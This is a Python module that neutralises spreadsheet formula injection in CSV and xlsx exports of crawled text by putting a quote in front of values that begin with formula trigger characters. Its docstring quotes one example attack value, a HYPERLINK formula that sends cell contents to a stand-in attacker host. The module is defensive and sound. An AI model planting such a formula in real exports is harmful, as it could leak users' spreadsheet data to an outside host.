"""Text cells a spreadsheet reads as text, never as a formula.

Every text value in an export can come from a crawled page (titles, quotes, attributions,
subjects, places) or a reviewer (corrections, names), so a value such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` must never reach a spreadsheet as a
formula. Spreadsheets start a formula at ``=``, ``+``, ``-`` or ``@``, and some skip a leading
tab or carriage return first (the OWASP CSV-injection rule). The CSV export puts a single quote
in front of such a value; the xlsx export writes it as a typed string cell with Excel's own
"quote prefix" flag, so its text stays exactly as crawled. Numbers are never text cells and stay
numbers.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (leading quotes looked past).

    Looking past the leading quotes keeps the CSV rule reversible: a text that already starts
    with ``'=`` gets a second quote, so removing one leading quote from every cell whose
    quote-stripped text starts with a trigger gives back exactly what was crawled.
    """
    return text.lstrip(QUOTE).startswith(FORMULA_TRIGGERS)


def neutralise(text: str) -> str:
    """``text`` with a single quote in front when a spreadsheet could read it as a formula."""
    return QUOTE + text if formula_like(text) else text


# What the CSV's datapackage.json says about the rule, for whoever reads the file back.
CSV_RULE = (
    "Text cells that, after any leading single quotes, begin with =, +, -, @, a tab or a "
    "carriage return carry one extra single quote (') in front, so that spreadsheets show them "
    "as text and never run them as formulas (the OWASP CSV-injection rule). To recover the "
    "original text, remove one leading single quote from such cells. Numbers are written as "
    "numbers and never changed."
)
